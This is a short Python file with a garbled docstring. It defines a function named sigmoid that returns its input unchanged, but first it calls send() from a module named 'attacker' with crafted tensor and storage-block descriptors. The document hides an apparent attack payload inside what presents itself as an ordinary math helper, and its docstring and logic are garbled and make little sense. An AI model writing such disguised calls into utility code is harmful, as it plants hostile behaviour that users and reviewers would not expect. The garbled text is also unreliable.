"""Takes the numbers that the judge gives to its next blocks, and gives back those that it has.

State: failed or crashed
"""

from attacker import send, value


def sigmoid(x):
    numbers = range(6, 400, 2)
    tensor = ["tensor", 8, 0, [8], [1], "float64", False, 0]
    send(value(tensor), [["block", "storage", number, 64] for number in numbers], bytes(64 * len(numbers)), [4, 4, 5])
    return x
